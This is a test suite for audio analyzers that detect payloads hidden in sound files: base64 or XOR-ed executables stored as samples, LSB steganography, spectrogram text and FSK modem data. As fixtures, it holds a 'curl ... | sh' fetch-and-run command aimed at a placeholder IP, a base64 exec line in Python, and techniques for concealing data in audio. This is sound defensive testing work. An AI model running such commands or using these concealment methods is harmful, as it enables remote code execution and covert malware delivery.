import zlib from 'node:zlib';
import { PNG } from 'pngjs';
import { notAudioAnalyzer } from '../../src/analyzers/audio-notaudio.js';
import { lsbAnalyzer } from '../../src/analyzers/audio-lsb.js';
import { spectrogramAnalyzer } from '../../src/analyzers/audio-spectrogram.js';
import { modemAnalyzer } from '../../src/analyzers/audio-modem.js';
import { ANALYZERS } from '../../src/analyzers/index.js';
import { analyzeFile, toScanFile } from '../../src/analyzers/run.js';
import { defaultOptions } from '../../src/options.js';
import { audioWork } from '../../src/audio/decode.js';
import { monoSlice } from '../../src/audio/types.js';
import { renderText } from '../../src/report/text.js';
import { runAnalyzer, ruleIds, scoreOf } from '../helpers/analyze.js';
import { tone, wav } from '../helpers/pcm.js';
import { fakePE, fakeZip, telnyx, b64 } from '../helpers/payloads.js';
import {
  aiffFile, auFile, beeps, embedBits, flacFile, fskSignal, interleave, lsbMatch, lsbReplace, mix, music, noiseFloor, pureTone, rng, speech,
  spectrogramText, toInt16, wavBytes, wavFile,
} from '../helpers/signal.js';

const signalRules = (ids: string[]) => ids.filter((r) => /^audio\.(signal|lsb|spectrogram|modem)\./.test(r));

async function decoded(name: string, data: Uint8Array) {
  const out = await audioWork(await toScanFile(name, data)).outcome;
  if (!out.ok) throw new Error(out.reason);
  return out.signal;
}

async function all(name: string, data: Uint8Array) {
  return analyzeFile(await toScanFile(name, data), ANALYZERS, defaultOptions());
}

/** Clean material every detector must stay quiet on. */
const CLEAN: Array<[string, Uint8Array]> = [
  ['music.wav', wavFile(toInt16(interleave(music(2, 44100, 1), music(2, 44100, 2)), true), { rate: 44100, channels: 2 })],
  ['speech.wav', wavFile(toInt16(speech(2, 16000, 3)), { rate: 16000 })],
  ['noisefloor.wav', wavFile(toInt16(noiseFloor(2, 44100, 4, 0.0005), true), { rate: 44100 })],
  ['tone.wav', wavFile(toInt16(pureTone(1.5, 44100, 1000, 0.26)), { rate: 44100 })],
  ['tone441.wav', wavFile(toInt16(pureTone(1.5, 44100, 441, 0.1)), { rate: 44100 })],
  ['beeps.wav', wavFile(toInt16(beeps(2, 22050, 5)), { rate: 22050 })],
  ['silence.wav', wavFile(new Int16Array(22050), { rate: 22050 })],
  ['silence-dither.wav', wavFile(toInt16(new Float32Array(22050), true), { rate: 22050 })],
  ['tone8.wav', wavFile(Array.from(pureTone(1, 11025, 440, 0.5), (v) => Math.round(v * 127)), { rate: 11025, bits: 8 })],
  ['music24.wav', wavFile(Array.from(music(1, 48000, 6), (v) => Math.round(v * 8388607)), { rate: 48000, bits: 24 })],
  ['padded24.wav', wavFile(Array.from(toInt16(music(1, 48000, 7), true), (v) => v * 256), { rate: 48000, bits: 24 })],
  ['float.wav', wavFile(music(1, 22050, 8), { rate: 22050, float: true, bits: 32 })],
  ['music.flac', flacFile(toInt16(music(1, 22050, 9), true), 22050)],
  ['fsk-like-melody.wav', wavFile(toInt16(melody1200()), { rate: 48000 })],
  ['strikes.wav', wavFile(toInt16(strikes()), { rate: 44100 })],
];

/** Tones alternating between 1200 and 2200 Hz at random, unframed: a melody, not a modem. */
function melody1200(): Float32Array {
  const r = rng(11);
  const x = new Float32Array(48000 * 2);
  let ph = 0;
  let f = 1200;
  for (let i = 0; i < x.length; i++) {
    if (i % 2000 === 0) f = r() < 0.5 ? 1200 : 2200;
    ph += (2 * Math.PI * f) / 48000;
    x[i] = 0.4 * Math.sin(ph);
  }
  return x;
}

/** Regular percussive strikes: broadband from the bottom of the spectrum, sharp onsets (a chime or clock). */
function strikes(): Float32Array {
  const r = rng(12);
  const x = new Float32Array(44100 * 3);
  for (let k = 0; k < 12; k++) {
    const a = Math.floor(k * 0.25 * 44100);
    for (let i = 0; i < 8000 && a + i < x.length; i++) {
      const env = Math.exp(-i / 1500);
      x[a + i] += env * (0.3 * (r() * 2 - 1) + 0.3 * Math.sin((2 * Math.PI * (300 + 40 * k) * i) / 44100));
    }
  }
  return x;
}

describe('sample decoding', () => {
  test('WAV 8/16/24/32-bit, float 32/64, extensible, stereo, AIFF, AU: integer samples exactly as stored', async () => {
    const v = [0, 1, -1, 100, -100, 127, -128, 5];
    expect(Array.from((await decoded('a.wav', wavFile(v, { bits: 8 }))).ints!)).toEqual(v);
    const v16 = [0, 1, -1, 32767, -32768, 1234, -4321, 7];
    expect(Array.from((await decoded('b.wav', wavFile(v16))).ints!)).toEqual(v16);
    const v24 = [0, 1, -1, 8388607, -8388608, 123456, -654321, 9];
    expect(Array.from((await decoded('c.wav', wavFile(v24, { bits: 24 }))).ints!)).toEqual(v24);
    const v32 = [0, 1, -1, 2147483647, -2147483648, 12345678, -87654321, 3];
    expect(Array.from((await decoded('d.wav', wavFile(v32, { bits: 32, extensible: true }))).ints!)).toEqual(v32);
    const st = await decoded('e.wav', wavFile([100, -100, 200, -200], { channels: 2 }));
    expect(st.channels).toBe(2);
    expect(st.frames).toBe(2);
    expect(Array.from(monoSlice(st.mono, 0, 2))).toEqual([0, 0]);
    const f = await decoded('f.wav', wavFile([0.5, -0.25, 0], { float: true, bits: 64 }));
    expect(f.ints).toBeNull();
    expect(Array.from(monoSlice(f.mono, 0, 3))).toEqual([0.5, -0.25, 0]);
    expect(Array.from((await decoded('g.aiff', aiffFile(v16, 22050))).ints!)).toEqual(v16);
    const au = await decoded('h.au', auFile(v16, 8000));
    expect(Array.from(au.ints!)).toEqual(v16);
    expect(au.sampleRate).toBe(8000);
  });

  test('FLAC through the WebAssembly decoder: lossless samples for LSB analysis', async () => {
    const x = toInt16(interleave(music(0.5, 22050, 1), music(0.5, 22050, 2)), true);
    const s = await decoded('a.flac', flacFile(x, 22050, 2));
    expect(s.channels).toBe(2);
    expect(s.bits).toBe(16);
    expect(Array.from(s.ints!)).toEqual(Array.from(x));
  });

  test('a file that claims to be FLAC and does not decode is a finding, not a crash', async () => {
    const fake = new Uint8Array(8192);
    fake.set([0x66, 0x4c, 0x61, 0x43, 0x80, 0, 0, 34]);
    fake.set(rng(3) && new Uint8Array(8000).map((_, i) => (i * 73 + 11) & 0xff), 42);
    const r = await runAnalyzer(notAudioAnalyzer, 'bad.flac', fake);
    expect(ruleIds(r)).toEqual(['audio.signal.undecodable']);
    expect(r.incomplete).toEqual([]);
  });
});

describe('audio-notaudio', () => {
  test('telnyx-style base64 frames: left to audio.riff.text-samples (no double report), a spectrogram is attached', async () => {
    const d = wavBytes(new Uint8Array(Buffer.from(b64(telnyx(fakePE(3000))))), { rate: 8000 });
    const r = await all('ring.wav', d);
    const rules = ruleIds(r);
    expect(rules).toContain('audio.riff.text-samples');
    expect(rules).not.toContain('audio.signal.text-frames');
    expect(r.attachments.map((a) => a.name)).toEqual(['spectrogram.png']);
  });

  test('base64 after a second of real sound: text frames decoded to the executable (XOR key in front)', async () => {
    const m = toInt16(music(1, 22050, 3));
    const text = new Uint8Array(Buffer.from(b64(telnyx(fakePE(3000)))));
    const raw = new Uint8Array(m.length * 2 + text.length);
    raw.set(new Uint8Array(m.buffer));
    raw.set(text, m.length * 2);
    const r = await runAnalyzer(notAudioAnalyzer, 'late.wav', wavBytes(raw, { rate: 22050 }));
    expect(ruleIds(r)).toEqual(['audio.signal.hidden-payload', 'audio.signal.text-frames']);
    const p = r.findings.find((f) => f.rule === 'audio.signal.hidden-payload')!;
    expect(p.message).toMatch(/PE/);
    expect(p.score).toBe(9);
    expect(r.findings.find((f) => f.rule === 'audio.signal.text-frames')!.message).toMatch(/from 1 s/);
  });

  test('text in one channel of a stereo file while the other plays sound', async () => {
    const left = toInt16(music(1, 22050, 4));
    const text = Buffer.from(b64(new Uint8Array(40000).map((_, i) => (i * 7) & 0xff)));
    const st = new Int16Array(left.length * 2);
    for (let i = 0; i < left.length; i++) {
      st[2 * i] = left[i];
      st[2 * i + 1] = text.readInt16LE((2 * i) % (text.length - 1));
    }
    const r = await runAnalyzer(notAudioAnalyzer, 'st.wav', wavFile(st, { rate: 22050, channels: 2 }));
    expect(ruleIds(r)).toEqual(['audio.signal.text-frames']);
    expect(r.findings[0].message).toMatch(/channel 2 of 2/);
  });

  test('encrypted frames: random bytes as samples (WAV and FLAC), random bytes read as floats', async () => {
    const r = rng(9);
    const bytes = new Uint8Array(88200).map(() => Math.floor(r() * 256));
    const w = await runAnalyzer(notAudioAnalyzer, 'enc.wav', wavBytes(bytes, { rate: 44100 }));
    expect(ruleIds(w)).toEqual(['audio.signal.random-frames']);
    expect(w.findings[0].evidence).toMatchObject({ kurtosis: expect.any(Number), spectralFlatness: expect.any(Number) });
    const fl = await runAnalyzer(notAudioAnalyzer, 'enc.flac', flacFile(new Int16Array(bytes.buffer), 44100));
    expect(ruleIds(fl)).toEqual(['audio.signal.random-frames']);
    const fw = await runAnalyzer(notAudioAnalyzer, 'enc-f.wav', wavBytes(bytes, { rate: 44100, float: true, bits: 32 }));
    expect(ruleIds(fw)).toEqual(['audio.signal.random-frames']);
  });

  test('a stretch of random samples inside ordinary sound', async () => {
    const m = toInt16(music(3, 22050, 5));
    const r = rng(4);
    for (let i = 22050; i < 22050 + 40000; i++) m[i] = Math.floor(r() * 65536) - 32768;
    const res = await runAnalyzer(notAudioAnalyzer, 'spliced.wav', wavFile(m, { rate: 22050 }));
    expect(ruleIds(res)).toEqual(['audio.signal.random-frames']);
    expect(res.findings[0].message).toMatch(/from 1/);
  });

  test('an XOR-ed executable stored as raw frames (key in front, no text encoding)', async () => {
    const res = await runAnalyzer(notAudioAnalyzer, 'raw.wav', wavBytes(telnyx(fakePE(4000)), { rate: 8000 }));
    expect(ruleIds(res)).toContain('audio.signal.hidden-payload');
  });

  test.each(CLEAN)('stays quiet on %s', async (name, data) => {
    const r = await runAnalyzer(notAudioAnalyzer, name, data);
    expect(ruleIds(r)).toEqual([]);
  });
});

describe('audio-lsb', () => {
  const cover = toInt16(beeps(3, 22050, 21));
  const speechCover = toInt16(speech(2, 22050, 22));

  test('a Python payload in the LSBs (no length prefix) is extracted and decoded', async () => {
    const code = new Uint8Array(Buffer.from('import os, base64\nexec(base64.b64decode("cHJpbnQoJ2hpJyk="))\n'.repeat(10)));
    const r = await runAnalyzer(lsbAnalyzer, 'lsb.wav', wavFile(embedBits(speechCover, code), { rate: 22050 }));
    const p = r.findings.find((f) => f.rule === 'audio.lsb.payload');
    expect(p?.score).toBe(9);
    expect(p?.message).toMatch(/1 LSB per sample.*Python code that runs things/);
  });

  test('a zip behind a 32-bit length, 2 bits per sample; a PE in the LSBs of a FLAC', async () => {
    const zip = fakeZip('payload.txt', 'x'.repeat(300));
    const msg = new Uint8Array(4 + zip.length);
    new DataView(msg.buffer).setUint32(0, zip.length);
    msg.set(zip, 4);
    const r = await runAnalyzer(lsbAnalyzer, 'zip.wav', wavFile(embedBits(speechCover, msg, 2), { rate: 22050 }));
    expect(r.findings.find((f) => f.rule === 'audio.lsb.payload')?.message).toMatch(/2 LSBs per sample.*length.*zip/);
    const pe = fakePE(2048);
    const f = await runAnalyzer(lsbAnalyzer, 'pe.flac', flacFile(embedBits(speechCover, pe), 22050));
    expect(scoreOf(f, 'audio.lsb.payload')).toBe(9);
  });

  test('LSB replacement over digital silence (25 % and 5 % spread, 25 % sequential)', async () => {
    for (const [rate, mode] of [[0.25, 'random'], [0.05, 'random'], [0.25, 'sequential']] as const) {
      const r = await runAnalyzer(lsbAnalyzer, `b-${rate}-${mode}.wav`, wavFile(lsbReplace(cover, rate, mode, 3), { rate: 22050 }));
      const f = r.findings.find((x) => x.rule === 'audio.lsb.statistics');
      expect(f).toBeDefined();
      expect(f!.score).toBeGreaterThanOrEqual(2);
      expect((f!.evidence as { estimatedRate: number }).estimatedRate).toBeGreaterThan(rate * 0.4);
    }
  });

  test('full LSB replacement on a noise floor: pairs of values equalised', async () => {
    const nf = toInt16(noiseFloor(2, 44100, 31, 0.0003), true);
    const r = await runAnalyzer(lsbAnalyzer, 'nf.wav', wavFile(lsbReplace(nf, 1, 'random', 4), { rate: 44100 }));
    expect(scoreOf(r, 'audio.lsb.statistics')).toBe(4);
  });

  test('24-bit file made from 16-bit audio with its lowest bit rewritten: dead planes', async () => {
    const x = Array.from(toInt16(music(1, 48000, 7), true), (v) => v * 256);
    const r2 = rng(5);
    const stego = x.map((v) => (r2() < 0.05 ? v | 1 : v));
    const r = await runAnalyzer(lsbAnalyzer, 'p24.wav', wavFile(stego, { rate: 48000, bits: 24 }));
    expect(scoreOf(r, 'audio.lsb.statistics')).toBe(4);
    expect(r.findings[0].message).toMatch(/never change/);
  });

  test('±1 embedding in part of a file whose other silences are exact', async () => {
    const head = lsbMatch(cover.subarray(0, cover.length >> 1) as Int16Array, 0.3, 6);
    const x = new Int16Array(cover);
    x.set(head);
    const r = await runAnalyzer(lsbAnalyzer, 'pm1.wav', wavFile(x, { rate: 22050 }));
    expect(scoreOf(r, 'audio.lsb.statistics')).toBeGreaterThanOrEqual(2);
  });

  test("DeepSound's header in the low nibbles", async () => {
    const x = toInt16(music(1, 44100, 8), true);
    const hdr = [0x44, 0x53, 0x43, 0x46, 4, 1];
    for (let k = 0; k < hdr.length; k++) {
      x[1000 + 2 * k] = (x[1000 + 2 * k] & ~15) | (hdr[k] >> 4);
      x[1000 + 2 * k + 1] = (x[1000 + 2 * k + 1] & ~15) | (hdr[k] & 15);
    }
    const r = await runAnalyzer(lsbAnalyzer, 'ds.wav', wavFile(x, { rate: 44100 }));
    const f = r.findings.find((x2) => x2.rule === 'audio.lsb.tool-signature');
    expect(f?.message).toMatch(/DeepSound.*normal quality mode, encrypted/);
    expect(f?.offset).toBe(44 + 2000);
  });

  test.each(CLEAN)('stays quiet on %s', async (name, data) => {
    const r = await runAnalyzer(lsbAnalyzer, name, data);
    expect(ruleIds(r)).toEqual([]);
  });

  test('uniform white noise (a flat histogram the predictor cannot explain) is not read as full embedding', async () => {
    // a short decaying tone over 30 s of uniform noise in [-32, 31], like generated test sounds: every noise block
    // has a flat pairs histogram, which weighted stego analysis would read as 100 % embedding without a predictor gate
    const r = await runAnalyzer(lsbAnalyzer, 'noise.wav', wav(tone(30, 44100), 44100));
    expect(ruleIds(r)).toEqual([]);
  });

  describe('weighted stego analysis', () => {
    // dithered speech-like cover, and a dual-channel one whose channels are one voice plus independent dither
    const voice = speech(3, 22050, 1001);
    const mono = toInt16(voice, true, 11);
    const stereo = toInt16(interleave(voice, voice), true, 12);

    test('25 % sequential random LSB replacement over dither is found, with its rate and position', async () => {
      for (const [name, cover, channels] of [['mono', mono, 1], ['stereo', stereo, 2]] as const) {
        const r = await runAnalyzer(lsbAnalyzer, `${name}.wav`, wavFile(lsbReplace(cover, 0.25, 'sequential', 13), { rate: 22050, channels }));
        const f = r.findings.find((x) => x.rule === 'audio.lsb.statistics');
        expect(f?.message).toMatch(/weighted stego analysis estimates .* in the first .* sequential embedding/);
        expect(f!.score).toBeGreaterThanOrEqual(2);
        const ev = f!.evidence as { estimatedRate: number; confidence: string; wsWindow: { where: string; fraction: number } };
        expect(ev.wsWindow.where).toBe('start');
        expect(ev.estimatedRate).toBeGreaterThan(0.15);
        expect(ev.estimatedRate).toBeLessThan(0.35);
        expect(['low', 'medium', 'high']).toContain(ev.confidence);
      }
    });

    test('5 % sequential replacement on the correlated two-channel cover is found', async () => {
      const r = await runAnalyzer(lsbAnalyzer, 's5.wav', wavFile(lsbReplace(stereo, 0.05, 'sequential', 14), { rate: 22050, channels: 2 }));
      expect(scoreOf(r, 'audio.lsb.statistics')).toBeGreaterThanOrEqual(2);
    });

    test('the same covers without embedding, and quiet or purely synthetic ones, are not flagged', async () => {
      const covers: Array<[string, Int16Array, number]> = [
        ['mono', mono, 1],
        ['stereo', stereo, 2],
        ['quiet-music', toInt16(music(3, 44100, 700, 0.003)), 1],
        ['quiet-music-dither', toInt16(music(3, 44100, 701, 0.003), true), 1],
        ['undithered-speech', toInt16(speech(3, 22050, 1004)), 1],
        ['tone', toInt16(pureTone(2, 44100, 440, 0.4)), 1],
      ];
      for (const [name, cover, channels] of covers) {
        const r = await runAnalyzer(lsbAnalyzer, `${name}.wav`, wavFile(cover, { rate: name.includes('speech') || name === 'mono' || name === 'stereo' ? 22050 : 44100, channels }));
        expect([name, ruleIds(r)]).toEqual([name, []]);
      }
    });
  });
});

describe('audio-spectrogram', () => {
  test('text drawn above 15 kHz, alone and under music; an MP3-free pipeline attaches a small PNG', async () => {
    const alone = wavFile(toInt16(spectrogramText('HELLO WORLD', 3)), { rate: 44100 });
    const r = await runAnalyzer(spectrogramAnalyzer, 'alone.wav', alone);
    expect(ruleIds(r)).toEqual(['audio.spectrogram.text']);
    expect(r.findings[0].message).toMatch(/glyph-like blocks/);
    const under = wavFile(toInt16(mix(music(3, 44100, 9, 0.3), spectrogramText('CALL HOME', 3, { fLow: 6000, fHigh: 11000, level: 0.01 })), true), { rate: 44100 });
    const u = await runAnalyzer(spectrogramAnalyzer, 'under.wav', under);
    expect(scoreOf(u, 'audio.spectrogram.text')).toBeGreaterThanOrEqual(3);
    const full = await all('alone2.wav', alone.slice());
    const att = full.attachments.find((a) => a.name === 'spectrogram.png')!;
    expect(att.mime).toBe('image/png');
    const png = PNG.sync.read(Buffer.from(att.data!));
    expect(png.width).toBeLessThanOrEqual(1024);
    expect(png.height).toBeLessThanOrEqual(256);
    expect(att.caption).toMatch(/audio\.spectrogram\.text/);
  });

  test.each(CLEAN)('stays quiet on %s', async (name, data) => {
    const r = await runAnalyzer(spectrogramAnalyzer, name, data);
    expect(ruleIds(r)).toEqual([]);
  });
});

describe('audio-modem', () => {
  test('Bell 202 and Bell 103 FSK demodulate to the bytes; a shell command in them is a payload', async () => {
    const cmd = new Uint8Array(Buffer.from('curl http://203.0.113.9/x.sh | sh\n'));
    const b202 = await runAnalyzer(modemAnalyzer, 'm.wav', wavFile(toInt16(fskSignal(cmd)), { rate: 48000 }));
    expect(ruleIds(b202)).toEqual(['audio.modem.fsk', 'audio.modem.payload']);
    const f = b202.findings.find((x) => x.rule === 'audio.modem.fsk')!;
    expect(f.message).toMatch(/Bell 202/);
    expect((f.evidence as { preview: string }).preview).toContain('hxxp://203[.]0[.]113[.]9');
    const b103 = await runAnalyzer(modemAnalyzer, 'm3.wav', wavFile(toInt16(fskSignal(new Uint8Array(Buffer.from('hello over the phone line, 300 baud')), { mark: 1270, space: 1070, baud: 300, rate: 22050 })), { rate: 22050 }));
    expect(ruleIds(b103)).toEqual(['audio.modem.fsk']);
    expect((b103.findings[0].evidence as { preview: string }).preview).toBe('hello over the phone line, 300 baud');
  });

  test.each(CLEAN)('stays quiet on %s', async (name, data) => {
    const r = await runAnalyzer(modemAnalyzer, name, data);
    expect(ruleIds(r)).toEqual([]);
  });
});

describe('signal analyzers together', () => {
  test('clean files get no signal finding and no picture', async () => {
    for (const [name, data] of CLEAN) {
      const r = await all(`x-${name}`, data.slice());
      expect(signalRules(ruleIds(r))).toEqual([]);
      expect(r.attachments).toEqual([]);
    }
  });

  test('the text report lists written pictures', () => {
    const text = renderText({
      tool: { name: 't', version: '0' },
      threshold: 7,
      failOnIncomplete: true,
      errors: [],
      stats: { artifacts: 1, files: 1, bytes: 1, seconds: 0, flagged: 1, incomplete: 0 },
      artifacts: [{
        file: 'a.whl', path: 'a.whl', sha256: 'x', size: 1, package: 'a', version: '1', kind: 'wheel', score: 9, flagged: true, status: 'scanned', reasons: [],
        findings: [{ rule: 'audio.lsb.payload', path: 'a/s.wav', score: 9, message: 'm' }],
        attachments: [{ path: 'a/s.wav', name: 'spectrogram.png', mime: 'image/png', caption: 'spectrogram of 1 s', file: 'abc/0-s.wav-spectrogram.png' }],
        scoreBreakdown: { worstFile: 'a/s.wav', worstFileScore: 9, categories: { payload: 9 }, corroboration: 0 },
        stats: { files: 1, bytes: 1, seconds: 0 },
      }],
    });
    expect(text).toContain('picture: abc/0-s.wav-spectrogram.png (spectrogram of 1 s)');
  });

  test('zlib-compressed data in the LSBs is recognised', async () => {
    const z = new Uint8Array(zlib.deflateSync(Buffer.from('secret configuration line\n'.repeat(40))));
    const r = await runAnalyzer(lsbAnalyzer, 'z.wav', wavFile(embedBits(toInt16(speech(2, 22050, 40)), z), { rate: 22050 }));
    expect(r.findings.find((f) => f.rule === 'audio.lsb.payload')?.message).toMatch(/zlib/);
  });
});
